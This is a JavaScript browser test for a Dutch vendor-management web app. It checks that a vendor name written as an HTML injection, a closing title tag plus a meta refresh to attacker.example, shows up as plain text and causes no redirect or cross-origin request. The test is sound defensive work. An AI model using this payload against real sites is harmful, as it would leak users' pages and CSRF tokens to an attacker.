// A vendor named like an HTML injection (a meta refresh that would send the page, CSRF token and all,
// to another host) is planted by a regisseur; a beheerder who opens it stays on the page, sees the
// name as text in the title, and the browser sends nothing to another origin.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, launchBrowser, hydrated, signIn } from './harness.mjs';

let server;
let chrome;
before(async () => { server = await startServer(); chrome = await launchBrowser(); });
after(async () => { await chrome?.close(); await server?.stop(); });

const HOSTILE = `</title><meta http-equiv="refresh" content="0;url=http://attacker.example/?q='">`;

test('a beheerder opening a vendor with a hostile name stays on the page and nothing leaves the origin', async () => {
  const planter = await chrome.newPage();
  await signIn(planter, server.url, 'regisseur');
  await planter.goto(`${server.url}/leveranciers/nieuw`);
  await hydrated(planter);
  await planter.getByLabel('Naam').fill(HOSTILE);
  await planter.getByLabel('KvK-nummer').fill('12345678');
  await planter.getByLabel('Categorie').selectOption('overig');
  await planter.getByLabel('Sourcingmodel').selectOption('saas');
  await planter.getByLabel('Kritikaliteit').selectOption('hoog');
  await planter.getByRole('button', { name: 'Opslaan' }).click();
  await planter.waitForURL(/\/leveranciers\/\d+(\?opgeslagen=\w+)?$/);
  const vendorUrl = planter.url();

  const admin = await chrome.newPage();
  const elsewhere = [];
  admin.on('request', (r) => { if (new URL(r.url()).origin !== server.url) elsewhere.push(r.url()); });
  await signIn(admin, server.url, 'beheerder');
  // Without JavaScript first: the server's HTML alone must not redirect.
  const noJs = await chrome.newPage({ javaScriptEnabled: false });
  noJs.on('request', (r) => { if (new URL(r.url()).origin !== server.url) elsewhere.push(r.url()); });
  await signIn(noJs, server.url, 'beheerder');
  await noJs.goto(vendorUrl);
  await noJs.waitForTimeout(1500);
  assert.equal(noJs.url(), vendorUrl, 'the page without JavaScript was redirected');
  assert.equal(await noJs.title(), `${HOSTILE} – Regiekamer`);

  await admin.goto(vendorUrl);
  await hydrated(admin);
  await admin.getByRole('heading', { level: 1, name: HOSTILE }).waitFor();
  // A meta refresh of 0 s would have fired by now.
  await admin.waitForTimeout(1500);
  assert.equal(admin.url(), vendorUrl, 'the page was redirected');
  assert.equal(await admin.title(), `${HOSTILE} – Regiekamer`, 'the title shows the name as text');
  assert.equal(await admin.locator('head meta[http-equiv]').count(), 0);
  assert.deepEqual(elsewhere, [], 'requests left the origin');
  assert.deepEqual(admin.problems, []);
});
